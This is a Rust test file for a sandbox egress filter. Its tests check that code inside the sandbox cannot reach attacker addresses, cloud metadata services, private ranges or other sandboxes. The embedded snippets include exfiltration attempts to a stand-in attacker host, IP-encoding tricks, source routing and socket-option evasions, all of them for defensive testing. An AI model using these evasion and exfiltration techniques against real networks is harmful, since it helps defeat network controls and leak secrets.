//! Attempts by address: where no name was asked for, or one that leads somewhere else.

use super::{World, everywhere};
use k8e_e2e::internet::{
    ATTACKER, ATTACKER_V6, CDN, ELSEWHERE, HOST, HOST_PUBLIC, METADATA, PLATFORM, PRIVATE,
    PUBLIC_V6, UPLINK,
};
use serde_json::json;

#[test]
fn an_address_instead_of_a_name_over_tls() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for a in '{ATTACKER}', '{CDN}': reach(a, 443, hello())\nreach('{ATTACKER}', 443, hello('{ATTACKER}'))"
        ));
        assert_eq!(
            inside.curl(&format!("-k https://{ATTACKER}/k8e-secret")),
            None
        );
        assert_eq!(inside.curl(&format!("-k https://{CDN}/k8e-secret")), None);
        inside.assert_not_reached(ATTACKER);
        let expected = json!({ "address": ATTACKER.to_string(), "port": 443, "reason": "no_name" });
        inside.assert_denied(expected);
    });
}

#[test]
fn an_address_instead_of_a_name_over_http() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for a in '{ATTACKER}', '{CDN}': reach(a, 80, get(a))"
        ));
        assert_eq!(inside.curl(&format!("http://{ATTACKER}/k8e-secret")), None);
        // As browsers read it: decimal, octal, hexadecimal, short.
        inside.tries_sh(
            "echo tried; for a in 755630658 0x2d0a0242 055.012.002.0102 45.10.578; do \
             curl -sf --max-time 5 http://$a/k8e-secret && echo ESCAPED; done; true",
        );
        inside.assert_denied(json!({ "address": ATTACKER.to_string(), "port": 80 }));
    });
}

#[test]
fn another_port_of_an_allowed_name() {
    everywhere("good.example", |inside| {
        inside.tries(
            "address = resolve('good.example')[0]\n\
             reach(address, 8443, hello('good.example'))\n\
             for port in 22, 53, 853, 3128, 5432, 7777: reach(address, port, get('good.example'))",
        );
        assert_eq!(inside.curl("https://good.example:8443/k8e-secret"), None);
        assert_eq!(inside.curl("http://good.example:3128/k8e-secret"), None);
        inside.assert_denied(json!({ "address": CDN.to_string(), "port": 7777 }));
    });
}

#[test]
fn every_port_of_the_attacker() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for port in [1, 22, 25, 53, 80, 443, 853, 3128, 5432, 7777, 8443, 65535]: reach('{ATTACKER}', port, wait=0.5)"
        ));
    });
}

#[test]
fn ipv6() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for a in '{ATTACKER_V6}', '{PUBLIC_V6}', 'ff02::1', 'fe80::1', '2001:db8:98::2':\n    \
             reach(a, 443, hello('good.example'), family=socket.AF_INET6)\n    \
             reach(a, 80, get('good.example'), family=socket.AF_INET6)\n    \
             datagram(a, 443, family=socket.AF_INET6)"
        ));
    });
}

#[test]
fn ipv4_mapped_into_ipv6() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for p in '::ffff:', '::', '64:ff9b::':\n    \
             for a in '{ATTACKER}', '{METADATA}', '{HOST}', '127.0.0.1':\n        \
             reach(p + a, 80, get(a), family=socket.AF_INET6)\n        \
             reach(p + a, 443, hello('good.example'), family=socket.AF_INET6)\n        \
             datagram(p + a, 443, family=socket.AF_INET6)"
        ));
    });
}

#[test]
fn ipv4_tunnelled_in_ipv6_addresses() {
    // 6to4 and Teredo have the address of a relay inside.
    everywhere("good.example", |inside| {
        inside.tries(
            "for a in '2002:2d0a:242::1', '2001:0:2d0a:242::1', '::2d0a:242':\n    \
             reach(a, 443, hello('good.example'), family=socket.AF_INET6)\n    \
             datagram(a, 443, family=socket.AF_INET6)",
        );
    });
}

#[test]
fn the_metadata_of_the_cloud() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for host in '{METADATA}', 'good.example', 'metadata': reach('{METADATA}', 80, get(host))\n\
             reach('{METADATA}', 443, hello('good.example')); reach('{METADATA}', 7777); datagram('{METADATA}', 53)"
        ));
        inside.assert_denied(json!({ "address": METADATA.to_string(), "port": 80 }));
    });
}

/// To each platform service of a cloud, on each port, by name and without one.
fn reach_platform() -> String {
    let addresses: Vec<_> = PLATFORM.iter().map(|one| format!("'{one}'")).collect();
    format!(
        "for a in {}:\n    \
         for host in a, 'good.example': reach(a, 80, get(host), wait=0.4)\n    \
         reach(a, 443, hello('good.example'), wait=0.4)\n    \
         for port in 53, 7777, 32526: reach(a, port, get(a), wait=0.4)\n    \
         datagram(a, 53); datagram(a, 443)",
        addresses.join(", ")
    )
}

#[test]
fn the_platform_services_of_clouds() {
    everywhere("good.example", |inside| {
        inside.tries(&reach_platform());
        let azure = json!({ "address": "168.63.129.16", "port": 80, "reason": "this_machine" });
        inside.assert_denied(azure);
    });
}

#[test]
fn the_platform_services_of_clouds_under_all() {
    everywhere("all", |inside| {
        inside.tries(&reach_platform());
        let azure = json!({ "address": "168.63.129.16", "port": 7777, "reason": "this_machine" });
        inside.assert_denied(azure);
    });
}

#[test]
fn the_platform_services_of_clouds_under_a_rule_about_them() {
    // Somebody may be talked into such a rule: it opens nothing.
    let ports = [80, 443, 53, 7777, 32526];
    let rule = |one: &std::net::Ipv4Addr| ports.map(|port| format!("{one}:{port}")).join(",");
    let rules: Vec<_> = PLATFORM.iter().map(rule).collect();
    let rules = format!("good.example,100.64.0.0/10,168.0.0.0/8,{}", rules.join(","));
    everywhere(&rules, |inside| {
        inside.tries(&reach_platform());
        let azure = json!({ "address": "168.63.129.16", "port": 32526, "reason": "this_machine" });
        inside.assert_denied(azure);
    });
}

#[test]
fn other_link_local_addresses() {
    everywhere("good.example", |inside| {
        inside.tries(
            "for a in '169.254.0.1', '169.254.170.2', '169.254.255.255': reach(a, 80, get('good.example')); datagram(a, 443)",
        );
    });
}

#[test]
fn the_private_network_of_the_machine() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for a in '{PRIVATE}', '{UPLINK}', '192.168.1.1', '172.17.0.1', '100.64.0.1':\n    \
             reach(a, 80, get('good.example')); reach(a, 443, hello('good.example')); reach(a, 5432)"
        ));
        inside.assert_denied(json!({ "address": PRIVATE.to_string(), "port": 5432 }));
    });
}

#[test]
fn the_machine_itself() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for a in '{HOST}', '{HOST_PUBLIC}', '127.0.0.1', '127.9.9.9', '0.0.0.0', '0.1.2.3':\n    \
             reach(a, 80, get('good.example')); reach(a, 443, hello('good.example')); reach(a, 7777)\n    \
             datagram(a, 53); datagram(a, 7777)"
        ));
        inside.assert_denied(json!({ "address": HOST.to_string(), "port": 7777 }));
        assert!(inside.internet.host_log().connections().is_empty());
        assert!(inside.internet.host_log().datagrams().is_empty());
    });
}

#[test]
fn the_gateway() {
    everywhere("good.example", |inside| {
        inside.tries(
            "for port in [1, 22, 80, 443, 853, 3128, 5432, 7777, 8080, 8443, 9090, 65535]:\n    \
             reach(GATEWAY, port, get('good.example'), wait=0.5)\n\
             reach(GATEWAY, 443, hello('good.example')); reach(GATEWAY, 80, b'CONNECT bad.example:443 HTTP/1.1\\r\\nHost: bad.example:443\\r\\n\\r\\n')\n\
             datagram(GATEWAY, 7777); datagram(GATEWAY, 67)",
        );
    });
}

#[test]
fn the_doors_of_the_server() {
    // Whoever reaches one could make sandboxes.
    let world = World::start(&["--listen", "0.0.0.0:50051"]);
    for rules in ["good.example", "all"] {
        world.everywhere(rules, |inside| {
            let addresses = format!("GATEWAY, '{HOST}', '{HOST_PUBLIC}', '127.0.0.1', '198.18.0.2'");
            inside.tries(&format!(
                "for a in {addresses}: reach(a, 50051, hello('localhost')); reach(a, 50051, hello('good.example'))"
            ));
        });
    }
}

#[test]
fn what_is_nobodys() {
    everywhere("good.example", |inside| {
        inside.tries(
            "for a in '240.0.0.1', '255.255.255.255', '224.0.0.1', '192.0.2.1', '198.51.100.1', '198.18.0.7', '198.19.255.255':\n    \
             reach(a, 80, get('good.example'), wait=0.5); reach(a, 443, hello('good.example'), wait=0.5)",
        );
    });
}

#[test]
fn broadcast_and_multicast() {
    everywhere("good.example", |inside| {
        inside.tries(
            "def loud(s): s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 32)\n\
             for a in '255.255.255.255', '198.18.0.255', '198.19.255.255', '10.98.0.3', '224.0.0.1', '224.0.0.251', '239.255.255.250':\n    \
             for port in 67, 443, 1900, 5353: datagram(a, port, prepare=loud, wait=0.1)",
        );
    });
}

#[test]
fn other_sandboxes() {
    let world = World::start(&[]);
    // Each listens on all that it has, and writes down who comes.
    let listen = "import socket, threading\n\
        def serve(s, name):\n    while True: s.accept(); open('/tmp/met', 'a').write(name)\n\
        for port in 80, 443, 7777:\n    \
        threading.Thread(target=serve, args=(socket.create_server(('0.0.0.0', port)), f'tcp {port} ')).start()\n\
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 443))\n\
        open('/tmp/ready', 'w')\n\
        while True: u.recv(100); open('/tmp/met', 'a').write('udp ')\n";
    let neighbours = ["native", "gvisor"].map(|runtime| {
        let neighbour = world.session(runtime, &["--allowed-hosts", "good.example"]);
        neighbour.sh(&format!(
            "cat > /tmp/listen.py <<'EOF'\n{listen}\nEOF\n\
             setsid python3 /tmp/listen.py > /tmp/said 2>&1 & for n in $(seq 100); do [ -e /tmp/ready ] && exit 0; sleep 0.1; done; cat /tmp/said; exit 1"
        ));
        neighbour
    });
    for rules in ["good.example", "all"] {
        world.everywhere(rules, |inside| {
            inside.tries(
                "for a in ['198.18.0.%d' % n for n in (0, 2, 3, 4, 5, 6)] + ['198.18.1.2']:\n    \
                 reach(a, 80, get('good.example'), wait=0.3); reach(a, 443, hello('good.example'), wait=0.3)\n    \
                 reach(a, 7777, wait=0.3); datagram(a, 443, wait=0.1)",
            );
        });
    }
    for neighbour in &neighbours {
        let met = neighbour.sh("cat /tmp/met 2>/dev/null; true");
        assert_eq!(met, "", "{met}");
    }
}

#[test]
fn what_all_does_not_mean() {
    everywhere("all", |inside| {
        inside.may_reach(ATTACKER, 7777);
        inside.tries(&format!(
            "for a in '{METADATA}', '{PRIVATE}', '{UPLINK}', '{HOST}', '{HOST_PUBLIC}', '127.0.0.1', GATEWAY, '198.18.0.9', '224.0.0.1', '100.64.0.1':\n    \
             for port in 80, 443, 7777: reach(a, port, get('good.example'), wait=0.5)\n    \
             reach(a, 443, hello('good.example'), wait=0.5)"
        ));
        let ran = inside.python(&format!("print(say('{ATTACKER}', 7777, b'open'))"));
        assert!(ran.out().contains("b'open'"), "{}", ran.all());
    });
}

#[test]
fn beside_a_network_that_is_allowed() {
    everywhere(
        "good.example,45.10.3.0/24:7777,10.99.0.8/30:5432",
        |inside| {
            inside.may_reach(ELSEWHERE, 7777);
            inside.may_reach(PRIVATE, 5432);
            inside.tries(&format!(
            "reach('{ELSEWHERE}', 443, hello('elsewhere.example')); reach('{ELSEWHERE}', 22); reach('45.10.4.1', 7777); reach('45.10.2.255', 7777)\n\
             reach('{PRIVATE}', 80, get('good.example')); reach('10.99.0.12', 5432); reach('10.99.0.7', 5432); datagram('{PRIVATE}', 5432)"
        ));
            let ran = inside.python(&format!(
                "print(say('{ELSEWHERE}', 7777, b'one'), say('{PRIVATE}', 5432, b'two'))"
            ));
            assert!(ran.out().contains("b'one' b'two'"), "{}", ran.all());
        },
    );
}

#[test]
fn data_in_the_first_packet() {
    // TCP Fast Open sends it before anybody has answered.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for a, port in ('{ATTACKER}', 80), ('{ATTACKER}', 443), ('{METADATA}', 80), ('{HOST}', 7777):\n    \
             tried(a)\n    \
             s = socket.socket(); s.settimeout(1)\n    \
             try:\n        s.sendto(get('{ATTACKER}'), socket.MSG_FASTOPEN, (a, port)); refused(s.recv(100)) or escaped(a)\n    \
             except OSError: pass"
        ));
    });
}

#[test]
fn a_route_of_ones_own() {
    // Loose source routing: to somebody allowed, and from there on to the attacker.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "def route(s): s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b'\\x83\\x07\\x04' + socket.inet_aton('{ATTACKER}') + b'\\0')\n\
             for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:\n    \
             tried(kind)\n    \
             s = socket.socket(socket.AF_INET, kind); s.settimeout(1)\n    \
             try:\n        route(s); s.connect(('{CDN}', 443)); s.send(SECRET); refused(s.recv(100)) or escaped()\n    \
             except OSError: pass"
        ));
    });
}

#[test]
fn options_of_a_socket() {
    // A mark, an interface or a way of routing that the rules of the namespace might not expect.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "SO_MARK, SO_DONTROUTE, SO_PRIORITY, SO_BINDTODEVICE, IP_TTL, IP_TOS = 36, 5, 12, 25, 2, 1\n\
             devices = [name.encode() for _, name in socket.if_nameindex()] + [b'lo', b'eth0', b'net0']\n\
             options = [(1, SO_MARK, mark) for mark in (0, 1, 2, 0xff, 0x100, 0xffffffff)] + [(1, SO_DONTROUTE, 1), (1, SO_PRIORITY, 7), (0, IP_TTL, 1), (0, IP_TTL, 255), (0, IP_TOS, 0xfc)] + [(1, SO_BINDTODEVICE, device) for device in devices]\n\
             for level, option, value in options:\n    \
             for kind, data in (socket.SOCK_STREAM, hello('bad.example')), (socket.SOCK_DGRAM, SECRET):\n        \
             for a in '{ATTACKER}', '{METADATA}':\n            \
             tried(option)\n            \
             s = socket.socket(socket.AF_INET, kind); s.settimeout(0.2)\n            \
             try: s.setsockopt(level, option, value if isinstance(value, bytes) else struct.pack('I', value))\n            \
             except OSError: pass\n            \
             try: s.connect((a, 443)); s.send(data); refused(s.recv(100)) or escaped(option, value)\n            \
             except OSError: pass"
        ));
    });
}

#[test]
fn a_port_to_call_from() {
    // As if an answer of the resolver or of the gate came from there.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for port in 1, 53, 80, 443, 50051:\n    \
             for kind, data in (socket.SOCK_STREAM, hello('bad.example')), (socket.SOCK_DGRAM, SECRET):\n        \
             for a, to in ('{ATTACKER}', 443), ('{ATTACKER}', 53), ('{HOST}', 7777), (GATEWAY, 1):\n            \
             tried(port, a)\n            \
             s = socket.socket(socket.AF_INET, kind); s.settimeout(0.3); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n            \
             try: s.bind(('198.18.0.2', port)); s.connect((a, to)); s.send(data); refused(s.recv(100)) or escaped(port, a)\n            \
             except OSError: pass\n            \
             finally: s.close()"
        ));
        assert!(inside.internet.host_log().connections().is_empty());
    });
}
